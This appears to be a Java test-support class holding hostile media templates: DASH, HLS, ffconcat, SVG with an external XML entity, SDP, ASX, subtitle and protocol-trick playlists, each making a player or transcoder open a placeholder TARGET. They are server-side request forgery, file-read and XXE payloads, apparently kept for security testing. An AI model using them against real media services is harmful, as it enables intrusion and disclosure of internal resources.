package org.capsula.media.hostile;

import java.util.Map;

/** Texts that make one player or another open what stands at TARGET. */
final class Scripts {
  static final Map<String, String> ALL =
      Map.of(
          "dash",
          """
          <?xml version="1.0" encoding="UTF-8"?>
          <MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">
            <Period id="0" start="PT0S"><AdaptationSet mimeType="video/mp4">
              <Representation id="0" bandwidth="1000" codecs="avc1.64001f" width="640" height="360">
                <BaseURL>TARGET</BaseURL>
              </Representation></AdaptationSet></Period>
          </MPD>
          """,
          "hls",
          """
          #EXTM3U
          #EXT-X-VERSION:7
          #EXT-X-TARGETDURATION:2
          #EXT-X-KEY:METHOD=AES-128,URI="TARGET"
          #EXT-X-MAP:URI="TARGET"
          #EXTINF:1.0,
          TARGET
          #EXT-X-ENDLIST
          """,
          "hls-of-variants",
          """
          #EXTM3U
          #EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="TARGET"
          #EXT-X-STREAM-INF:BANDWIDTH=1000,AUDIO="a"
          TARGET
          """,
          "concat",
          """
          ffconcat version 1.0
          file 'TARGET'
          """,
          "svg",
          """
          <?xml version="1.0"?>
          <!DOCTYPE svg [<!ENTITY x SYSTEM "TARGET">]>
          <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="TARGET" width="64" height="64"/><text>&x;</text></svg>
          """,
          "sdp",
          """
          v=0
          o=- 0 0 IN IP4 127.0.0.1
          s=TARGET
          c=IN IP4 127.0.0.1
          t=0 0
          m=video 9 RTP/AVP 96
          a=rtpmap:96 H264/90000
          """,
          "asx",
          """
          <ASX version="3.0"><Entry><Ref href="TARGET"/></Entry></ASX>
          """,
          "subtitles",
          """
          1
          00:00:00,000 --> 00:00:09,000
          <img src="TARGET"> <font face="TARGET">x</font>
          """,
          "data-address",
          """
          #EXTM3U
          #EXTINF:1.0,
          data:text/plain,TARGET
          #EXTINF:1.0,
          concat:TARGET|TARGET
          #EXTINF:1.0,
          subfile,,start,0,end,0,,:TARGET
          """);

  private Scripts() {}
}
